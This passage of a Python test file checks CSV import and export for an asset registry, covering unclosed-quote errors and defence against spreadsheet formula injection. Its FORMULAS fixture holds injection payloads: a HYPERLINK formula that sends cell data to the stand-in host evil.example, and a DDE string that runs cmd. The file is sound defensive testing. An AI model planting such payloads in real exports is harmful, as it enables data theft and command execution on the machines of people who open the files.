    assert import_csv("deployments", mixed)["created"] == {"deployments": 1}


def test_a_csv_with_an_unclosed_quote_says_so_with_its_line(demo, tmp_path):
    path = tmp_path / "chains.csv"
    path.write_text('chain_id,name\nbase,Base\nzora,"Zora\nmode,Mode\n', encoding="utf-8")
    before = registry_state()

    with pytest.raises(CommandError) as raised:
        import_csv("chains", path)

    assert str(raised.value).startswith("Nothing imported: ")
    assert "line 3: a quoted cell opens on this line and is never closed" in str(raised.value)
    assert registry_state() == before


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "description": "-2+3+cmd|' /C calc'!A0",
    "category": "@SUM(1)",
}


def test_a_cell_a_spreadsheet_would_run_is_exported_inert_and_reimports_unchanged(
    registry_data, tmp_path
):
    """CSV injection: an asset named ``=HYPERLINK(…)`` exported raw is a formula when a
    steward opens the file. Each such cell starts with a ``'``, a plain number does not,
    and the file re-imports to the same values (no change)."""
    asset = asset_create(symbol="FORMULA", asset_type="ERC20", **FORMULAS)
    asset_create(symbol="QUOTE", name="'=already quoted", asset_type="ERC20")
    text = export_text("assets")
    row = next(r for r in csv.DictReader(StringIO(text)) if r["asset_id"] == str(asset.pk))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value
    quoted = next(r for r in csv.DictReader(StringIO(text)) if r["symbol"] == "QUOTE")
    assert quoted["name"] == "''=already quoted"
    path = tmp_path / "assets.csv"
    path.write_text(text, encoding="utf-8")
    before = registry_state()

    report = import_csv("assets", path)

    assert report["created"] == report["updated"] == {} and report["rejected"] == []
    assert registry_state() == before
